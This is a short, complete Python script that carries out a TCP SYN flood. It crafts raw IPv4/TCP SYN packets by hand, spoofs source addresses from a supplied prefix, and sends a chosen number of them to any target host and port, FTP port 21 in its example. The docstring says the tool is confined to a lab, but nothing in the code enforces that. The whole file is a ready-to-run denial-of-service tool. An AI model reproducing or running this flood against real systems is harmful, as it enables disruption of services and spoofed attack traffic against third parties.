#!/usr/bin/python3
"""A flood of bogus FTP control sessions: TCP SYNs to DST:PORT from COUNT
source address/port pairs taken from PREFIX.100-249 (spoofed, on the
sender's own subnet, so they stay in the lab). Raw IPv4 socket, standard
library only. Prints the SYNs sent and the seconds it took.

Usage: syn_flood.py DST PORT COUNT PREFIX   (e.g. 198.51.100.2 21 4096 192.0.2)
"""
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0,
                     src, dst)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def main():
    dst, port, count, prefix = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    dst_b = socket.inet_aton(dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    for i in range(count):
        src = socket.inet_aton("%s.%d" % (prefix, 100 + i % 150))
        sport = 10000 + i // 150
        s.sendto(syn(src, dst_b, sport, port, 7919 * i), (dst, 0))
    print(count, "%.3f" % (time.monotonic() - start))


if __name__ == "__main__":
    main()
